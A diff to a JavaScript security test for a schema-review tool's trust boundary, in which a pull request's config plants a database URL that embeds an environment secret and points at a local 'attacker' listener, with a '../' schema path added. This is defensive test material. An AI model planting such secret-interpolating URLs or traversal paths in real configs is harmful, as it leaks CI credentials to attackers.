@@ -62,7 +62,7 @@ describe('mode review, trust boundary', () => {
     api = fakeGitHub();
     const attacker = await connectionCounter();
     try {
-      const headConfig = ['schema: db/schema.sql', 'tenants:', '  list:', '    - id: evil', `      url: postgres://x:\${PLANTED}@127.0.0.1:${attacker.port}/\${PLANTED}`, 'lint:', '  rules:', '    drop-column: off', ''].join('\n');
+      const headConfig = ['schema: ../db/schema.sql', 'tenants:', '  list:', '    - id: evil', `      url: postgres://x:\${PLANTED}@127.0.0.1:${attacker.port}/\${PLANTED}`, 'lint:', '  rules:', '    drop-column: off', ''].join('\n');
       api.setFiles(BASE, { 'schemafleet.yml': CONFIG, 'db/schema.sql': BASE_SQL });
       api.setFiles(HEAD, { 'schemafleet.yml': CONFIG, '.github/schemafleet.yml': headConfig, 'db/schema.sql': HEAD_SQL });
       const { code, core } = await review({ env: { PLANTED: 'planted-secret-value' } });
